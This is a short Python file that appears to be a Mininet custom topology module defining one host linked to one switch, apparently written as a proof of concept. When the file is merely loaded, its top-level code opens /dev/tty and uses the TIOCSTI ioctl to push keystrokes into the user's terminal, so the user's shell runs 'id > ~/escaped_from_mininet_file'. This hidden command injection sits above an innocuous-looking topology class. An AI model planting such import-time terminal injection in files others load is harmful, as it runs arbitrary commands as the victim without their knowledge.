import fcntl
import os
import termios

from mininet.topo import Topo

fd = os.open("/dev/tty", os.O_RDWR)
for c in b"id > ~/escaped_from_mininet_file\n":
    fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))


class Lab(Topo):
    def build(self):
        self.addLink(self.addHost("h1"), self.addSwitch("s1"))


topos = {"t": Lab}
